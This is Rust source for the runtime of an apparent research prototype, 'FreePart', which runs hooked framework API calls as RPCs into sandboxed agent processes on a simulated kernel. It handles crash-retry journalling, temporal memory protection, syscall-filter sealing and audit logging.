        self.call_id_on(ThreadId::MAIN, api, args)
    }

    /// Calls a framework API by id on a specific thread.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_id_on(
        &mut self,
        thread: ThreadId,
        api: ApiId,
        args: &[Value],
    ) -> Result<Value, CallError> {
        if !self.states.contains_key(&thread) {
            return Err(CallError::UnknownApi(format!("{thread} not spawned")));
        }
        let api_type = self.report.type_of(api);
        let neutral = self.reg.spec(api).type_neutral && self.policy.colocate_type_neutral;

        // One sequence number per *logical* call: a crash-retry re-sends
        // the same seq, so an agent that completed the call just before
        // dying answers the retry from its completion journal instead of
        // executing the side effects a second time.
        self.seq += 1;
        let seq = self.seq;

        // Hook entry: the Call span opens here and the per-call byte
        // accumulation resets.
        let tracing = self.tracer.enabled();
        let call_t0 = if tracing {
            self.tracer.begin_call();
            self.kernel.clock().now_ns()
        } else {
            0
        };

        // Type-neutral APIs run in the calling context's agent and do not
        // move the framework state (§4.2).
        let base_partition = if neutral {
            match self.state_of(thread) {
                FrameworkState::InType(t) => self.policy.plan.partition_of_type(t),
                FrameworkState::Initialization => self.partition_of(api),
            }
        } else {
            // Temporal protection fires on the state change, *before* the
            // API executes (Fig. 3). Snapshot the page counter and the
            // protected set around it so the audit record carries the
            // exact protection delta this transition applied.
            let before = if tracing {
                Some((
                    self.kernel.clock().now_ns(),
                    self.kernel.metrics().protected_pages,
                    self.states[&thread].protected().len(),
                    self.state_of(thread),
                ))
            } else {
                None
            };
            let sm = self.states.get_mut(&thread).expect("checked");
            let newly = sm.observe(api_type, &mut self.kernel, &self.objects).ok();
            if let Some((t0, pages0, prot0, from)) = before {
                let to = self.state_of(thread);
                if to != from {
                    let now = self.kernel.clock().now_ns();
                    let pages = self.kernel.metrics().protected_pages - pages0;
                    let prot1 = self.states[&thread].protected().len();
                    let locked = newly.unwrap_or(0);
                    let unlocked = (prot0 + locked).saturating_sub(prot1);
                    self.tracer.record_audit(AuditRecord::StateTransition {
                        at_ns: t0,
                        thread,
                        seq,
                        from,
                        to,
                        objects_locked: locked,
                        objects_unlocked: unlocked,
                        pages,
                    });
                    self.tracer.span(SpanEvent {
                        phase: SpanPhase::Transition,
                        seq,
                        api: Some(api),
                        partition: None,
                        thread,
                        start_ns: t0,
                        end_ns: now,
                        bytes: 0,
                    });
                }
            }
            self.partition_of(api)
        };
        let partition = thread_partition(thread, base_partition);

        let first_attempt = self.dispatch(thread, partition, seq, api, args);
        let result = match first_attempt {
            Err(CallError::AgentCrashed(p)) if self.policy.restart == RestartPolicy::Restart => {
                // At-least-once re-delivery of the *same* request; the
                // completion journal upgrades it to exactly-once when the
                // crash happened after execution.
                self.restart_agent(p);
                self.dispatch(thread, p, seq, api, args)
            }
            other => other,
        };
        if tracing {
            let end = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Call,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: call_t0,
                end_ns: end,
                bytes: 0,
            });
            let outcome = match &result {
                Ok(_) => CallOutcome::Completed,
                Err(CallError::Framework(_)) => CallOutcome::Errored,
                Err(CallError::AgentCrashed(_)) | Err(CallError::AgentUnavailable(_)) => {
                    CallOutcome::Faulted
                }
                Err(_) => CallOutcome::Errored,
            };
            // Filter kills surface as crashes too; the dispatch path has
            // already written the finer-grained audit record.
            self.tracer
                .finish_call(partition, api, end - call_t0, outcome);
        }
        result
    }

    /// Test hook: makes the agent serving `partition` crash right after
    /// its next successful execution, before the response frame is
    /// delivered — the window where a call has completed in the agent but
    /// the host cannot know it. One-shot; used by the exactly-once
    /// regression tests.
    pub fn inject_crash_before_response(&mut self, partition: PartitionId) {
        self.crash_before_response = Some(partition);
    }

    /// One delivery attempt to an agent. `seq` identifies the logical
    /// call and is reused verbatim on crash-retries.
    fn dispatch(
        &mut self,
        thread: ThreadId,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let agent_pid = self
            .agents
            .get(&partition)
            .ok_or(CallError::AgentUnavailable(partition))?
            .pid;
        if !self.kernel.is_running(agent_pid) {
            if self.policy.restart == RestartPolicy::Restart {
                self.restart_agent(partition);
            } else {
                return Err(CallError::AgentUnavailable(partition));
            }
        }
        let agent_pid = self.agents[&partition].pid;

        // --- request frame host → agent ---
        let tracing = self.tracer.enabled();
        let marshal_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        let req = Request {
            seq,
            api,
            args: args.to_vec(),
        };
        let chan = self.agents[&partition].chan;
        self.kernel
            .ipc_send(self.host, chan, &req.encode())
            .map_err(|_| CallError::AgentUnavailable(partition))?;
        let delivered = self
            .kernel
            .ipc_recv(agent_pid, chan)
            .map_err(|_| CallError::AgentUnavailable(partition))?
            .expect("request just sent");
        let frame_len = delivered.len() as u64;
        let req = Request::decode(&delivered).expect("self-encoded frame");
        if tracing {
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Marshal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: marshal_t0,
                end_ns: now,
                bytes: frame_len,
            });
        }

        // Exactly-once: a re-delivered request whose execution already
        // completed (the agent died in the response window) is answered
        // from the completion journal without re-running side effects.
        if let Some(cached) = self.agents[&partition].cache.replay(req.seq) {
            let cached = cached.clone();
            let agent = self.agents.get_mut(&partition).expect("agent exists");
            agent.calls += 1;
            self.stats.rpc_calls += 1;
            self.call_log.push(api);
            if tracing {
                let now = self.kernel.clock().now_ns();
                self.tracer.note_journal_hit();
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Replay,
                    seq,
                    api: Some(api),
                    partition: Some(partition),
                    thread,
                    start_ns: now,
                    end_ns: now,
                    bytes: 0,
                });
            }
            if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
                self.seal_agent(partition);
            }
            return Ok(cached);
        }

        // --- data plane: move object arguments ---
        let mut needed = Vec::new();
        for a in &req.args {
            a.collect_objects(&mut needed);
        }
        for obj in &needed {
            self.move_to_agent(thread, *obj, agent_pid)?;
        }

        // --- execute in the agent's process context ---
        let exec_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        let watermark = self.objects.next_id_watermark();
        let mut ctx = ApiCtx::new(&mut self.kernel, &mut self.objects, agent_pid);
        let exec_result = execute(&self.reg, api, &req.args, &mut ctx);
        let exploit_log = std::mem::take(&mut ctx.exploit_log);
        drop(ctx);
        self.exploit_log.extend(exploit_log);
        if tracing {
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Execute,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: exec_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        let result = match exec_result {
            Ok(v) => v,
            Err(e) if e.is_crash() => {
                if tracing {
                    self.audit_agent_crash(partition, api, agent_pid, thread);
                }
                return Err(CallError::AgentCrashed(partition));
            }
            Err(e) => return Err(CallError::Framework(e)),
        };

        // Track objects defined during this call in the current state —
        // a range scan over ids past the watermark, not a store-wide one.
        let new_ids: Vec<ObjectId> = self.objects.ids_since(watermark).collect();
        for id in new_ids {
            self.define_on(thread, id);
        }

        // --- eager copy-back without LDC ---
        if !self.policy.lazy_data_copy {
            let mut back: Vec<ObjectId> = needed.clone();
            back.extend(result.as_obj());
            for obj in back {
                if let Some(meta) = self.objects.meta(obj) {
                    if meta.home == agent_pid {
                        let len = meta.len();
                        let copy_t0 = if tracing {
                            self.kernel.clock().now_ns()
                        } else {
                            0
                        };
                        self.objects
                            .migrate_direct(&mut self.kernel, obj, self.host)
                            .map_err(|_| CallError::StateLost(obj))?;
                        self.stats.host_copies += 1;
                        self.charge_transport(len);
                        if tracing {
                            let now = self.kernel.clock().now_ns();
                            self.tracer.add_eager_bytes(len);
                            self.tracer.span(SpanEvent {
                                phase: SpanPhase::DataCopy,
                                seq,
                                api: Some(api),
                                partition: Some(partition),
                                thread,
                                start_ns: copy_t0,
                                end_ns: now,
                                bytes: len,
                            });
                        }
                        self.reapply_all(obj);
                    }
                }
            }
        }

        // The call is now complete agent-side: journal it *before* the
        // response leg, so a crash in the response window is recoverable
        // by replaying the journal instead of re-executing side effects.
        let journal_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        self.agents
            .get_mut(&partition)
            .expect("agent exists")
            .cache
            .complete(req.seq, result.clone());
        if tracing {
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Journal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: journal_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        // One-shot injected crash in exactly that window (test hook).
        if self.crash_before_response == Some(partition) {
            self.crash_before_response = None;
            self.kernel.deliver_fault(agent_pid, FaultKind::Abort, None);
            return Err(CallError::AgentCrashed(partition));
        }

        // --- response frame agent → host ---
        let resp_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        let resp = Response {
            seq: req.seq,
            result: result.clone(),
        };
        let resp_frame = resp.encode();
        let resp_len = resp_frame.len() as u64;
        self.kernel
            .ipc_send(agent_pid, chan, &resp_frame)
            .map_err(|_| CallError::AgentCrashed(partition))?;
        self.kernel
            .ipc_recv(self.host, chan)
            .map_err(|_| CallError::AgentCrashed(partition))?;
        if tracing {
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Response,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: resp_t0,
                end_ns: now,
                bytes: resp_len,
            });
        }

        // --- bookkeeping ---
        let agent = self.agents.get_mut(&partition).expect("agent exists");
        agent.calls += 1;
        let calls = agent.calls;
        self.stats.rpc_calls += 1;
        self.call_log.push(api);

        // Ship pinned objects back to their data processes.
        if !self.pinned.is_empty() {
            let mut back = needed;
            back.extend(result.as_obj());
            for obj in back {
                self.return_pinned(obj)?;
            }
        }

        // Seal the filter after the first completed call (§4.4.1).
        if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
            self.seal_agent(partition);
        }
        // Periodic stateful snapshots (§A.2.4).
        if self.policy.snapshot_interval > 0 && calls.is_multiple_of(self.policy.snapshot_interval)
        {
            self.take_snapshot(partition);
        }
        Ok(result)
    }

    /// Charges the transport penalty for moving `bytes` over a pipe
    /// instead of shared memory.
    fn charge_transport(&mut self, bytes: u64) {
        let factor = self.policy.transport.penalty_factor();
        if factor > 1 {
            let base = self.kernel.cost_model().copy_cost(bytes);
            self.kernel.charge_time(base * (factor - 1));
        }
    }

    /// Re-applies temporal protection from whichever thread's machine
    /// tracks the object (after a migration re-materialized it writable).
    fn reapply_all(&mut self, obj: ObjectId) {
        let threads: Vec<ThreadId> = self
            .states
            .iter()
            .filter(|(_, s)| s.is_protected(obj))
            .map(|(t, _)| *t)
            .collect();
        if threads.is_empty() {
            return;
        }
        let tracing = self.tracer.enabled();
        let before = if tracing {
            Some((
                self.kernel.clock().now_ns(),
                self.kernel.metrics().protected_pages,
            ))
        } else {
            None
        };
        for t in &threads {
            if let Some(sm) = self.states.get(t) {
                sm.reapply(&mut self.kernel, &self.objects, obj).ok();
            }
        }
        if let Some((t0, pages0)) = before {
            let now = self.kernel.clock().now_ns();
            let pages = self.kernel.metrics().protected_pages - pages0;
            self.tracer.record_audit(AuditRecord::Reprotect {
                at_ns: t0,
                object: obj,
                pages,
            });
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Reprotect,
                seq: self.seq,
                api: None,
                partition: None,
                thread: threads[0],
                start_ns: t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Moves one object into the executing agent according to the LDC
    /// policy, re-applying temporal protection afterwards.
    fn move_to_agent(
        &mut self,
        thread: ThreadId,
        obj: ObjectId,
        agent_pid: Pid,
    ) -> Result<(), CallError> {
        let meta = self
            .objects
            .meta(obj)
            .ok_or(CallError::StateLost(obj))?
            .clone();
        if meta.home == agent_pid {
            return Ok(());
        }
        if meta.buffer.is_none() {
            // Buffer-less handles (windows, captures) carry no payload:
            // re-homing them is free and never lossy.
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            return Ok(());
        }
        if !self.kernel.is_running(meta.home) {
            return Err(CallError::StateLost(obj));
        }
        let tracing = self.tracer.enabled();
        let copy_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        if self.policy.lazy_data_copy {
            // Direct move from wherever the payload lives (Fig. 11-a).
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            if meta.buffer.is_some() {
                self.stats.ldc_copies += 1;
                self.charge_transport(meta.len());
                if tracing {
                    self.tracer.add_lazy_bytes(meta.len());
                }
            }
        } else {
            // Eager path through the host (Fig. 11-b).
            if meta.home != self.host {
                self.objects
                    .migrate_direct(&mut self.kernel, obj, self.host)
                    .map_err(|_| CallError::StateLost(obj))?;
                if meta.buffer.is_some() {
                    self.stats.host_copies += 1;
                    self.charge_transport(meta.len());
                    if tracing {
                        self.tracer.add_eager_bytes(meta.len());
                    }
                }
            }
            self.objects
                .migrate_direct(&mut self.kernel, obj, agent_pid)
                .map_err(|_| CallError::StateLost(obj))?;
            if meta.buffer.is_some() {
                self.stats.host_copies += 1;
                self.charge_transport(meta.len());
                if tracing {
                    self.tracer.add_eager_bytes(meta.len());
                }
            }
        }
        if tracing {
            // The copy span closes *before* re-protection so Reprotect
            // time attributes to the mprotect bucket, not the copy one.
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::DataCopy,
                seq: self.seq,
                api: None,
                partition: None,
                thread,
                start_ns: copy_t0,
                end_ns: now,
                bytes: meta.len(),
            });
        }
        self.reapply_all(obj);
        Ok(())
    }

    fn seal_agent(&mut self, partition: PartitionId) {
        let agent = self.agents.get_mut(&partition).expect("agent exists");
        let pid = agent.pid;
        let apis = agent.apis.clone();
        let Ok(process) = self.kernel.process(pid) else {
            return;
        };
        let mut filter = match self.policy.sandbox {
            SandboxLevel::None => return,
            SandboxLevel::PerAgent => build_filter(&self.reg, &self.profile, &apis, process),
            SandboxLevel::CoarseUnion => {
                // Whole-library sandbox: everything the library could
                // ever need, including mprotect for lazy loading — the
                // hole code-rewriting exploits walk through.
                let all: BTreeSet<ApiId> = self.reg.iter().map(|s| s.id).collect();
                let mut f = build_filter(&self.reg, &self.profile, &all, process);
                f.allow(freepart_simos::SyscallNo::Mprotect);
                f
            }
        };
        filter.lock();
        if self.kernel.install_filter(pid, filter).is_ok() {
            // PR_SET_NO_NEW_PRIVS: the configuration is now immutable
            // even from inside the process.
            if let Ok(p) = self.kernel.process_mut(pid) {
                p.no_new_privs = true;
            }
            self.agents
                .get_mut(&partition)
                .expect("agent exists")
                .sealed = true;
        }
    }

    fn take_snapshot(&mut self, partition: PartitionId) {
        let pid = self.agents[&partition].pid;
        let stateful: Vec<ObjectId> = self
            .objects
            .iter()
            .filter(|m| {
                m.home == pid
                    && matches!(
                        m.kind,
                        ObjectKind::Capture { .. }
                            | ObjectKind::Model { .. }
                            | ObjectKind::Classifier { .. }
                    )
            })
            .map(|m| m.id)
            .collect();
        let mut entries = Vec::new();
        for id in stateful {
            let meta = self.objects.meta(id).expect("listed above").clone();
            let bytes = self
                .objects
                .read_bytes(&mut self.kernel, id)
                .unwrap_or_default();
            entries.push(SnapshotEntry {
                object: id,
                kind: meta.kind,
                label: meta.label,
                bytes,
            });
        }
        self.snapshots.insert(partition, entries);
    }

    /// Respawns a crashed agent: new process, new code page, channel
    /// rebound, stateful snapshots restored (with temporal protection
    /// re-applied to them), the completion journal carried over, and —
    /// if the old process was already sealed — the syscall filter
    /// re-sealed immediately so the sandbox never reopens in the respawn
    /// window. Crashed-process variable values are deliberately **not**
    /// restored (§6).
    pub fn restart_agent(&mut self, partition: PartitionId) {
        let tracing = self.tracer.enabled();
        let restart_t0 = if tracing {
            self.kernel.clock().now_ns()
        } else {
            0
        };
        let Some(agent) = self.agents.remove(&partition) else {
            return;
        };
        let chan = agent.chan;
        let was_sealed = agent.sealed;
        let new_pid = self.kernel.spawn(&format!("agent:{partition}+"));
        let code_page = self
            .kernel
            .alloc(new_pid, freepart_simos::PAGE_SIZE, Perms::RX)
            .expect("fresh agent allocates");
        self.kernel
            .rebind_channel(chan, new_pid)
            .expect("channel exists");
        self.agents.insert(
            partition,
            Agent {
                partition,
                pid: new_pid,
                chan,
                code_page,
                apis: agent.apis,
                sealed: false,
                calls: agent.calls,
                // The journal of completed calls lives with the rebound
                // channel, not the dead process: the respawned agent can
                // still answer re-delivered requests it already executed.
                cache: agent.cache,
            },
        );
        // Restore snapshotted stateful objects into the new process, then
        // re-apply temporal protection — the restore writes into fresh RW
        // pages, and restart must not leave protected objects writable.
        if let Some(entries) = self.snapshots.get(&partition).cloned() {
            for entry in entries {
                if let Ok(addr) =
                    self.kernel
                        .alloc(new_pid, entry.bytes.len().max(1) as u64, Perms::RW)
                {
                    if self.kernel.mem_write(new_pid, addr, &entry.bytes).is_ok() {
                        if let Some(meta) = self.objects.meta_mut(entry.object) {
                            meta.home = new_pid;
                            meta.buffer = Some((addr, entry.bytes.len() as u64));
                            meta.kind = entry.kind.clone();
                            meta.label = entry.label.clone();
                        }
                        self.reapply_all(entry.object);
                    }
                }
            }
        }
        if was_sealed && self.policy.sandbox != SandboxLevel::None {
            self.seal_agent(partition);
        }
        self.stats.restarts += 1;
        if tracing {
            let now = self.kernel.clock().now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Restart,
                seq: self.seq,
                api: None,
                partition: Some(partition),
                thread: ThreadId::MAIN,
                start_ns: restart_t0,
                end_ns: now,
                bytes: 0,
            });
        }
    }

    /// Classifies a just-crashed agent's fault into an audit record:
    /// a denied syscall becomes a [`AuditRecord::FilterKill`], anything
    /// memory-related a [`AuditRecord::AccessDenied`] with the faulting
    /// address resolved back to the protected object it hit, when any.
    fn audit_agent_crash(
        &mut self,
        partition: PartitionId,
        api: ApiId,
        agent_pid: Pid,
        thread: ThreadId,
    ) {
        let Ok(process) = self.kernel.process(agent_pid) else {
            return;
        };
        let ProcessState::Crashed(fault) = &process.state else {
            return;
        };
        let fault = fault.clone();
        let at_ns = self.kernel.clock().now_ns();
        let state = self.state_of(thread);
        match fault.kind {
            FaultKind::SyscallDenied(no) => {
                self.tracer.note_filter_kill();
                self.tracer.record_audit(AuditRecord::FilterKill {
                    at_ns,
                    partition,
                    api,
                    state,
                    syscall: format!("{no:?}"),
                });
            }
            kind => {
                let addr = fault.addr.map(|a| a.0);
                let object = addr.and_then(|a| {
                    self.objects
                        .iter()
                        .find(|m| {
                            m.buffer
                                .is_some_and(|(base, len)| a >= base.0 && a < base.0 + len.max(1))
                        })
                        .map(|m| m.id)
                });
                self.tracer.record_audit(AuditRecord::AccessDenied {
                    at_ns,
                    partition,
                    api,
                    state,
                    object,
                    addr,
                    fault: format!("{kind:?}"),
                });
            }
        }
    }
}
