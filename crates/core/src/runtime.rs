//! The FreePart runtime: hooked API calls become RPCs into isolated
//! agent processes (paper §4.3–§4.4, Fig. 5 right).
//!
//! [`Runtime::install`] spawns the host process plus one agent process
//! per partition, each with its own address space, shared-memory ring to
//! the host, and an RX code page (the target of code-rewrite exploits).
//! [`Runtime::call`] is the hooked interface: it marshals the request,
//! routes it to the right agent (type-neutral APIs follow the calling
//! context), moves object payloads according to the Lazy-Data-Copy
//! policy, drives the framework-state machine's temporal permissions,
//! executes the API *in the agent's process context*, and handles agent
//! crashes with optional restart (at-least-once re-execution).
//!
//! Per-agent seccomp-style filters are sealed after each agent's first
//! completed call — the paper's "first execution unrestricted, then
//! restrict" design.

use crate::partition::PartitionId;
use crate::policy::{HostDataPlacement, Policy, RestartPolicy, SandboxLevel};
use crate::rpc::{CompletionCache, Request, Response};
use crate::state::{FrameworkState, StateMachine};
use crate::syscall_policy::build_filter;
use crate::trace::{AuditRecord, CallOutcome, SpanEvent, SpanPhase, Tracer};
use freepart_analysis::{HybridReport, SyscallProfile, TestCorpus};
use freepart_frameworks::api::{ApiId, ApiRegistry};
use freepart_frameworks::exec::execute;
use freepart_frameworks::{
    ActionReport, ApiCtx, FrameworkError, ObjectId, ObjectKind, ObjectStore, Value,
};
use freepart_simos::{Addr, ChannelId, FaultKind, Kernel, Perms, Pid, ProcessState};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt;

/// Identifier of an application thread. Per the paper's §6, every
/// thread gets its **own set of agent processes** (and its own
/// framework-state machine), avoiding cross-thread races on agents.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ThreadId(pub u32);

impl ThreadId {
    /// The application's main thread.
    pub const MAIN: ThreadId = ThreadId(0);
}

impl fmt::Display for ThreadId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "thread{}", self.0)
    }
}

/// Partition-id namespace stride per thread: thread `t`'s instance of
/// partition `p` is `PartitionId(t * THREAD_STRIDE + p)`.
const THREAD_STRIDE: u32 = 1_000;

fn thread_partition(thread: ThreadId, p: PartitionId) -> PartitionId {
    PartitionId(thread.0 * THREAD_STRIDE + p.0)
}

/// Precomputed `ApiId → PartitionId` routing, shared by install-time
/// agent creation, per-thread agent spawning, and the per-call hot path.
/// Built once from the partition plan and the hybrid categorization so
/// no caller re-runs the full `plan.group` computation.
#[derive(Debug, Clone)]
struct RoutingTable {
    /// Canonical partition per catalog API.
    by_api: BTreeMap<ApiId, PartitionId>,
    /// API universe per partition (each agent's filter-building set).
    groups: BTreeMap<PartitionId, BTreeSet<ApiId>>,
    /// Every partition an agent set must cover (plan partitions plus
    /// any partition the grouping routed an API to).
    partitions: BTreeSet<PartitionId>,
}

impl RoutingTable {
    fn build(reg: &ApiRegistry, report: &HybridReport, policy: &Policy) -> RoutingTable {
        let mut by_api = BTreeMap::new();
        let mut groups: BTreeMap<PartitionId, BTreeSet<ApiId>> = BTreeMap::new();
        for spec in reg.iter() {
            let p = policy.plan.partition_of(spec.id, report.type_of(spec.id));
            by_api.insert(spec.id, p);
            groups.entry(p).or_default().insert(spec.id);
        }
        let mut partitions: BTreeSet<PartitionId> = policy.plan.partitions().into_iter().collect();
        partitions.extend(groups.keys().copied());
        RoutingTable {
            by_api,
            groups,
            partitions,
        }
    }
}

/// One isolated agent process.
#[derive(Debug)]
pub struct Agent {
    /// The partition this agent serves.
    pub partition: PartitionId,
    /// Its current process (changes across restarts).
    pub pid: Pid,
    /// Ring channel to the host.
    pub chan: ChannelId,
    /// RX code page — what a code-rewrite exploit tries to patch.
    pub code_page: Addr,
    /// APIs assigned to this agent (filter-building universe).
    pub apis: BTreeSet<ApiId>,
    /// True once the syscall filter is installed and locked.
    pub sealed: bool,
    /// Completed calls.
    pub calls: u64,
    cache: CompletionCache,
}

impl Agent {
    /// Completions still journalled (not yet pruned below the ack
    /// watermark).
    pub fn journal_len(&self) -> usize {
        self.cache.len()
    }

    /// Highest response sequence the host has acknowledged consuming;
    /// journal entries at or below it are pruned.
    pub fn journal_watermark(&self) -> u64 {
        self.cache.acked_watermark()
    }
}

/// A snapshotted stateful object (for restart restoration, §A.2.4).
#[derive(Debug, Clone)]
struct SnapshotEntry {
    object: ObjectId,
    kind: ObjectKind,
    label: String,
    bytes: Vec<u8>,
}

/// Errors surfaced by [`Runtime::call`].
#[derive(Debug, Clone, PartialEq)]
pub enum CallError {
    /// The API name is not in the registry.
    UnknownApi(String),
    /// The target agent is dead and restart is disabled.
    AgentUnavailable(PartitionId),
    /// The agent crashed (again) while executing this call.
    AgentCrashed(PartitionId),
    /// An argument object's payload died with a crashed process and
    /// could not be restored (§6 "Restoring States of Crashed Process").
    StateLost(ObjectId),
    /// Ordinary framework failure (bad args, missing file, parse error).
    Framework(FrameworkError),
}

impl fmt::Display for CallError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CallError::UnknownApi(n) => write!(f, "unknown API {n}"),
            CallError::AgentUnavailable(p) => write!(f, "agent {p} is down"),
            CallError::AgentCrashed(p) => write!(f, "agent {p} crashed"),
            CallError::StateLost(id) => write!(f, "object {id} lost in a crash"),
            CallError::Framework(e) => e.fmt(f),
        }
    }
}

impl std::error::Error for CallError {}

/// Handle to an asynchronous hooked call ([`Runtime::call_async`]).
/// Redeem it with [`Runtime::wait`] (retires the call, consuming its
/// response) or peek with [`Runtime::promise`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct CallHandle(u64);

impl CallHandle {
    /// The sequence number of the underlying request.
    pub fn seq(self) -> u64 {
        self.0
    }
}

/// A call that has executed agent-side but whose response the host has
/// not consumed yet. The simulator executes calls eagerly at submission
/// (so results and side effects are identical to the synchronous path);
/// the *overlap* lives in virtual time — the host's timeline only
/// merges past the agent's at retirement.
#[derive(Debug)]
struct InFlight {
    api: ApiId,
    thread: ThreadId,
    partition: PartitionId,
    outcome: Result<Value, CallError>,
    /// A response frame is sitting in the ring for the host to consume.
    has_response: bool,
    /// Journal-replay calls do their bookkeeping at submission.
    booked: bool,
    /// Objects this call consumed or produced (pinned-return set).
    touched: Vec<ObjectId>,
    /// Agent-timeline completion, for hazard merges of later consumers.
    complete_ns: u64,
    call_t0: u64,
    resp_t0: u64,
    resp_len: u64,
}

/// What one delivery attempt hands back to the submit path.
struct Dispatched {
    value: Value,
    has_response: bool,
    booked: bool,
    touched: Vec<ObjectId>,
    complete_ns: u64,
    resp_t0: u64,
    resp_len: u64,
}

/// Aggregated runtime statistics for the evaluation tables.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RuntimeStats {
    /// Completed hooked API calls.
    pub rpc_calls: u64,
    /// Direct agent→agent payload moves (lazy copies).
    pub ldc_copies: u64,
    /// Through-host payload moves (eager / host-dereference copies).
    pub host_copies: u64,
    /// Agent restarts performed.
    pub restarts: u64,
    /// Framework-state transitions taken.
    pub transitions: u64,
    /// Objects currently under read-only protection.
    pub protected_objects: u64,
}

/// The installed FreePart runtime for one application.
pub struct Runtime {
    /// The simulated OS everything runs on.
    pub kernel: Kernel,
    /// Live framework objects.
    pub objects: ObjectStore,
    reg: ApiRegistry,
    report: HybridReport,
    profile: SyscallProfile,
    policy: Policy,
    host: Pid,
    routes: RoutingTable,
    agents: BTreeMap<PartitionId, Agent>,
    states: BTreeMap<ThreadId, StateMachine>,
    seq: u64,
    /// One-shot fault injection: kill this partition's agent after its
    /// next successful execution but before the response is delivered.
    crash_before_response: Option<PartitionId>,
    /// Exploit actions observed inside agents (drained by the harness).
    pub exploit_log: Vec<ActionReport>,
    call_log: Vec<ApiId>,
    stats: RuntimeStats,
    tracer: Tracer,
    snapshots: BTreeMap<PartitionId, Vec<SnapshotEntry>>,
    /// Objects pinned to a dedicated data process (code-based API+data
    /// baseline): shipped to users per call and returned afterwards.
    pinned: BTreeMap<ObjectId, Pid>,
    /// Submitted-but-unretired calls by sequence number.
    inflight: BTreeMap<u64, InFlight>,
    /// FIFO retirement order per partition (ring responses are ordered).
    inflight_by_partition: BTreeMap<PartitionId, VecDeque<u64>>,
    /// Retired outcomes kept for late `wait`/`promise`/dep lookups:
    /// `(outcome, completion ns)`.
    retired: BTreeMap<u64, (Result<Value, CallError>, u64)>,
    /// Object hazards: when the last call touching each object completed
    /// (agent timeline). A later consumer merges its agent's timeline to
    /// this instant — it waits for *that producer only*.
    last_touch: BTreeMap<ObjectId, u64>,
    /// True once per-process virtual timelines drive the kernel clock.
    pipelining: bool,
    /// Max in-flight calls per partition before submission force-retires
    /// the oldest.
    pipeline_window: usize,
}

impl fmt::Debug for Runtime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Runtime")
            .field("host", &self.host)
            .field("agents", &self.agents.len())
            .field("state", &self.state_of(ThreadId::MAIN))
            .finish()
    }
}

impl Runtime {
    /// Installs FreePart: runs the hybrid analysis on the full corpus,
    /// spawns host + agents, and wires the IPC channels.
    pub fn install(reg: ApiRegistry, policy: Policy) -> Runtime {
        let corpus = TestCorpus::full(&reg);
        let report = freepart_analysis::categorize(&reg, &corpus);
        let profile = SyscallProfile::build(&reg, &corpus);
        Runtime::install_with(reg, report, profile, policy)
    }

    /// Installs FreePart with precomputed analysis results.
    pub fn install_with(
        reg: ApiRegistry,
        report: HybridReport,
        profile: SyscallProfile,
        policy: Policy,
    ) -> Runtime {
        let mut kernel = Kernel::new();
        let host = kernel.spawn("host");
        let temporal = policy.temporal_protection;
        let mut states = BTreeMap::new();
        states.insert(ThreadId::MAIN, StateMachine::new(temporal));
        // Route every catalog API to its partition once; install-time
        // agent creation, spawn_thread, and the call hot path all read
        // this table instead of recomputing the grouping.
        let routes = RoutingTable::build(&reg, &report, &policy);
        let mut rt = Runtime {
            kernel,
            objects: ObjectStore::new(),
            reg,
            report,
            profile,
            policy,
            host,
            routes,
            agents: BTreeMap::new(),
            states,
            seq: 0,
            crash_before_response: None,
            exploit_log: Vec::new(),
            call_log: Vec::new(),
            stats: RuntimeStats::default(),
            tracer: Tracer::new(),
            snapshots: BTreeMap::new(),
            pinned: BTreeMap::new(),
            inflight: BTreeMap::new(),
            inflight_by_partition: BTreeMap::new(),
            retired: BTreeMap::new(),
            last_touch: BTreeMap::new(),
            pipelining: false,
            pipeline_window: 4,
        };
        rt.spawn_agent_set(ThreadId::MAIN);
        rt
    }

    /// Spawns one agent per routed partition for `thread`, each with the
    /// routing table's API set for that partition.
    fn spawn_agent_set(&mut self, thread: ThreadId) {
        let partitions: Vec<PartitionId> = self.routes.partitions.iter().copied().collect();
        for p in partitions {
